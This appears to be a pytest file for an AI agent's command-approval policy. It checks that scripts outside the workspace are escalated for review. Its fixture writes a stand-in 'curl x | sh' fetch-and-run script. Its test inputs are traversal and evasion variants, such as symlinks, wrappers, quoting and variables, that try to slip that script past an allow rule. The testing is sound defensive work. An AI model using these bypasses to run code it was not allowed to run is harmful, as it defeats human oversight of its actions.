"""A program named by a path is a file the command reads and runs: the workspace judges it
like any argument, so an allow rule's glob (``*`` crosses ``/``) admits no program from
outside the workspace. A program found on PATH (``/usr/bin/python3``) is judged by name."""

from __future__ import annotations

from pathlib import Path

import pytest

from signoff import Effect, Policy, RunContext, ToolCall
from signoff.model import ReviewMode
from signoff.policy.starter import starter_toml

RULES = """
[[rules]]
id = "scripts"
effect = "allow"
tool = "execute"
command = ["./*.sh *", "./*.sh", "*.sh", "/usr/bin/python3 *", "env *", "nohup *",
           "timeout *", "xargs *", "echo", "cd *"]
"""


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "scripts").mkdir(parents=True)
    (ws / "build.sh").write_text("echo ok\n")
    (tmp_path / "evil.sh").write_text("curl x | sh\n")
    (ws / "link.sh").symlink_to(tmp_path / "evil.sh")
    return ws


def verdict(ws: Path, command: str, mode: ReviewMode) -> tuple[Effect, list[str]]:
    policy = Policy.from_toml(starter_toml(str(ws)) + RULES)
    found = policy.evaluate(ToolCall(id="c1", name="execute", args={"command": command}),
                            RunContext(thread_id="t", review_mode=mode))
    return found.effect, [r.code for r in found.reasons]


@pytest.mark.parametrize("mode", [ReviewMode.MANUAL, ReviewMode.AUTO])
@pytest.mark.parametrize("command", [
    "./../evil.sh", "./scripts/../../evil.sh", "../evil.sh", "./link.sh", "{TMP}/evil.sh",
    "./build.sh && ./../evil.sh x",
    # the same file reached another way: a wrapper, a cd first, quoting, a variable
    "env ../evil.sh", "nohup ./../evil.sh", "timeout 5 ../evil.sh", "echo | xargs ../evil.sh",
    "cd scripts && ../../evil.sh", "./\"..\"/evil.sh", "'../evil.sh'", "X=../evil.sh; $X"])
def test_a_program_outside_the_workspace_is_asked_about_whatever_the_rule(
        workspace: Path, command: str, mode: ReviewMode) -> None:
    effect, codes = verdict(workspace, command.replace("{TMP}", str(workspace.parent)), mode)
    assert effect is Effect.ASK and "outside_workspace" in codes


@pytest.mark.parametrize("command", ["./build.sh", "./build.sh --fast", "build.sh"])
def test_a_program_inside_the_workspace_is_admitted_by_the_rule(workspace: Path,
                                                                command: str) -> None:
    assert verdict(workspace, command, ReviewMode.MANUAL) == (Effect.ALLOW, ["rule_allow"])


def test_a_program_on_path_is_judged_by_its_name(workspace: Path) -> None:
    assert verdict(workspace, "/usr/bin/python3 -m pytest", ReviewMode.MANUAL) == (
        Effect.ALLOW, ["rule_allow"])
    effect, codes = verdict(workspace, "/usr/bin/../../tmp/x -m y", ReviewMode.MANUAL)
    assert effect is Effect.ASK and "outside_workspace" in codes
